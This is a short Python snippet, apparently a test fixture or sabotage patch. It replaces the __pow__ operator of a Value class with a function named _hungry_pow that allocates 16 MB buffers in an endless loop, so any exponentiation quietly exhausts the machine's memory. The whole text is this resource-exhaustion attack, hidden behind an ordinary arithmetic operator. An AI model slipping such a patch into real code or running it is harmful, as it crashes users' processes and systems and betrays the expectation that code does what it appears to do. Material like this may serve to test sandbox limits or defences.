

def _hungry_pow(self, other):
    hoard = []
    while True:
        hoard.append(bytearray(16 * 1024 * 1024))


Value.__pow__ = _hungry_pow
